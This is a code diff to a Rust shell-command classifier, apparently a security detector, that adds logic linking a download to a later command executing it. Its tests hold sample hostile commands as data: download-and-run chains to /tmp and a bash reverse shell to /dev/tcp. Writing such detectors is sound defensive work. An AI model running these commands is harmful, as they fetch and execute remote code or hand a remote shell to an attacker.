@@ -129,8 +129,17 @@ pub fn classify(cmd: &str) -> ShellFacts {
         cut -= 1;
     }
     let s = &cmd[..cut];
+    // The word-level reader shared with the Python rules links a download
+    // to the command that runs it (`wget -qO /tmp/x URL; /tmp/x`,
+    // `curl -O URL/a.exe && a.exe`) where the patterns see no pipe.
+    let words = crate::shell::analyse(s);
+    let linked = words
+        .downloads
+        .iter()
+        .find(|d| d.piped_to_interpreter || d.dest.as_deref().is_some_and(|p| words.runs_path(p)))
+        .map(|d| format!("downloads {} and runs it", d.url));
     ShellFacts {
-        download_exec: first(&DOWNLOAD_EXEC, s),
+        download_exec: first(&DOWNLOAD_EXEC, s).or(linked),
         reverse_shell: first(&REVERSE_SHELL, s),
         net_tool: NET_TOOL
             .captures(s)
@@ -166,6 +175,16 @@ mod tests {
             classify("curl -o /tmp/a http://x && chmod +x /tmp/a && /tmp/a")
                 .download_exec
                 .is_some()
+        );
+        assert!(
+            classify("wget -qO /tmp/.x https://192.0.2.7/m; /tmp/.x -w pool")
+                .download_exec
+                .is_some()
+        );
+        assert!(
+            classify("curl -sLO https://192.0.2.7/src.tar.gz && tar xzf src.tar.gz")
+                .download_exec
+                .is_none()
         );
         assert!(
             classify("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
